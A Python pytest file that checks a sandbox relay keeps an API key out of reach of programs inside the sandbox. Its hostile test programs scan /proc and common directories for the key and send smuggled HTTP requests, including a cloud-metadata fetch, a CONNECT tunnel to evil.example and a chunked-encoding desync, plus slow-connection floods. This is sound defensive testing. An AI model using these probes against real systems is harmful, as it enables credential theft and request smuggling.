"""A program in the sandbox and its model: through the relay, with a worthless key, and the real one out of reach."""

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from pydantic import SecretStr
from support.servers.relayed_model import KEY, Upstream, upstream_server
from support.worlds.hostile_world import PYTHON, findings, hostile_world, needs_bubblewrap
from support.worlds.jobserver_world import JOB

pytestmark = pytest.mark.skipif("sys.platform != 'linux'", reason="bubblewrap exists for Linux only")
ASK = """
import urllib.error, urllib.request
def ask(path, **more):
    body = json.dumps({"model": "m", "messages": [], **more}).encode()
    headers = {"Content-Type": "application/json", "x-api-key": os.environ["ANTHROPIC_API_KEY"]}
    request = urllib.request.Request(sys.argv[1] + path, body, headers)
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()
"""
SEARCH = f"""
key = b"-".join([{", ".join(map(repr, KEY.encode().split(b"-")))}])
places = []
def look(path):
    try:
        with open(path, "rb") as stream:
            return key in stream.read(5_000_000)
    except OSError:
        return False
for pid in filter(str.isdigit, os.listdir("/proc")):
    names = ("environ", "cmdline", "status", "mountinfo", "net/unix")
    places += [path for name in names if look(path := f"/proc/{{pid}}/{{name}}")]
for root in ("/workspace", "/tmp", "/dev/shm", "/etc", "/run", "/home"):
    for folder, _, names in os.walk(root):
        places += [path for name in names if os.path.isfile(path := os.path.join(folder, name)) and look(path)]
attempt("places", lambda: places)
attempt("environment", lambda: [n for n, v in os.environ.items() if key.decode() in v])
"""


@pytest.fixture(autouse=True, scope="module")
def bubblewrap() -> None:
    needs_bubblewrap()


@pytest.fixture
async def upstream() -> AsyncIterator[Upstream]:
    async with upstream_server() as upstream:
        yield upstream


def model(upstream: Upstream, **more: Any) -> dict[str, Any]:
    key = SecretStr(KEY)
    return {"egress": (), "model_api": "anthropic", "model_key": key, "model_url": upstream.url, **more}


async def test_a_command_uses_its_model_without_ever_holding_the_key(tmp_path: Path, upstream: Upstream) -> None:
    """Not in a file, its environment, an argument or anything else that it can read."""
    program = ASK + SEARCH + 'attempt("asked", lambda: ask("/v1/messages"))\nreport()'
    async with hostile_world(tmp_path, program, "{model_url}", **model(upstream)) as world:
        found = await findings(world)
    assert found["asked"] == str((200, '{"ok": true}'))
    assert (found["places"], found["environment"]) == ("[]", "[]")
    assert [request.headers["x-api-key"] for request, _ in upstream.asked] == [KEY]


async def test_the_relays_refusals_reach_the_program_and_people(tmp_path: Path, upstream: Upstream) -> None:
    program = (
        ASK + 'attempt("asked", lambda: ask("/v1/messages", mcp_servers=[{"url": "https://x.example"}]))\nreport()'
    )
    async with hostile_world(tmp_path, program, "{model_url}", **model(upstream)) as world:
        job = await world.done("go")
        assert "refused: its model's API (mcp_servers) (1)" in world.log(job["id"])
        assert "It tried to reach its model's API (mcp_servers): not allowed here." in json.dumps(job["details"])
        found = json.loads(world.show(f"pagehand/{job['id']}", "found.json"))
    assert found["asked"].startswith("(403")
    assert "mcp_servers" in found["asked"]
    assert not upstream.asked


SMUGGLED = (
    "POST /v1/files HTTP/1.1\r\nHost: r\r\n{key}Content-Length: 2\r\n\r\n{{}}",
    "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: r\r\n{key}\r\n",
    "GET /pulls/1 HTTP/1.1\r\nHost: r\r\n{key}\r\n",
    "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n{key}\r\n",
    "GET /v1/models HTTP/1.1\r\nHost: r\r\n{key}Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
    "POST /v1/messages HTTP/1.1\r\nHost: r\r\n{key}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "POST /v1/messages HTTP/1.1\r\nHost: r\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{{}}",
)
"""Other paths, hosts and protocols, two lengths, and no key."""


async def test_only_the_models_conversation_passes_the_relay(tmp_path: Path, upstream: Upstream) -> None:
    program = f"""
import socket
def send(text):
    with socket.create_connection(("127.0.0.1", 8701), 10) as relay:
        relay.sendall(text.format(key=f"x-api-key: {{os.environ['ANTHROPIC_API_KEY']}}\\r\\n").encode())
        return relay.makefile("rb").readline().split()[1].decode()
for number, text in enumerate({SMUGGLED!r}):
    attempt(str(number), lambda: send(text))
report()
"""
    async with hostile_world(tmp_path, program, **model(upstream)) as world:
        found = await findings(world)
    assert len(found) == len(SMUGGLED)
    assert set(found.values()) <= {"400", "401", "403"}, found
    assert not upstream.asked


async def test_slow_requests_and_endless_answers_end_with_the_run(tmp_path: Path, upstream: Upstream) -> None:
    """A cancel ends the run, the model's answers are given up, and the server continues."""
    begun, ended = asyncio.Semaphore(0), asyncio.Semaphore(0)

    async def endlessly(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse()
        await response.prepare(request)
        begun.release()
        try:
            while True:
                await response.write(b"x" * 65_536)
        finally:
            ended.release()

    upstream.answer = endlessly
    program = """
import socket, threading
head = f"POST /v1/messages HTTP/1.1\\r\\nHost: r\\r\\nx-api-key: {os.environ['ANTHROPIC_API_KEY']}\\r\\n"
body = json.dumps({"model": "m", "messages": []})
whole = f"{head}Content-Type: application/json\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n{body}"
def connected(text):
    relay = socket.create_connection(("127.0.0.1", 8701), 20)
    relay.sendall(text.encode())
    return relay
slow = [connected(head) for _ in range(25)] + [connected(whole[:-1]) for _ in range(25)]
unread, streams = connected(whole), [connected(whole) for _ in range(3)]
def pump(relay):
    while relay.recv(65_536):
        pass
threads = [threading.Thread(target=pump, args=(relay,)) for relay in streams]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
"""
    async with hostile_world(tmp_path, program, **model(upstream)) as world:
        job = (await world.create("go")).raise_for_status().json()
        async with asyncio.timeout(30):
            for _ in range(4):
                await begun.acquire()
            (await world.client.post(f"{JOB}/{job['id']}/cancel")).raise_for_status()
            for _ in range(4):
                await ended.acquire()
        assert "stopped" in (await world.ended(job["id"]))["details"]["reason"]
        assert (await world.client.get("/health")).status_code == 200


async def test_checks_cannot_reach_the_model(tmp_path: Path, upstream: Upstream) -> None:
    """A command of the repository runs code from the change."""
    check = (PYTHON, "-c", "import socket; socket.create_connection(('127.0.0.1', 8701), 5)")
    async with hostile_world(tmp_path, "report()", **model(upstream, checks=(check,))) as world:
        job = await world.done("go")
    results = {result["name"]: result["status"] for result in job["details"]["pullRequest"]["checks"]}
    assert "failed" in results.values()
    assert not upstream.asked
